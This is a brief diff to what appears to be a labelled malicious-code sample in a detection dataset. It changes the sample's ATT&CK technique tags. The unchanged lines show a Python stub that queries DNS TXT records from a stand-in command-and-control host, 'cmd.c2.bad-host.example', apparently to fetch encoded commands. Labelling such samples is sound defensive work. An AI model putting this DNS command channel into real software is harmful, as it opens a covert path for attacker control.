@@ -1,4 +1,4 @@
-# label: malicious family=c2 techniques=T1071.004,T1140,T1059.006 lines=3,5
+# label: malicious family=c2 techniques=T1059.006,T1071.004,T1140,T1620 lines=3,5
 import dns.resolver, base64
 ans = dns.resolver.resolve("cmd.c2.bad-host.example", "TXT")
 for r in ans:
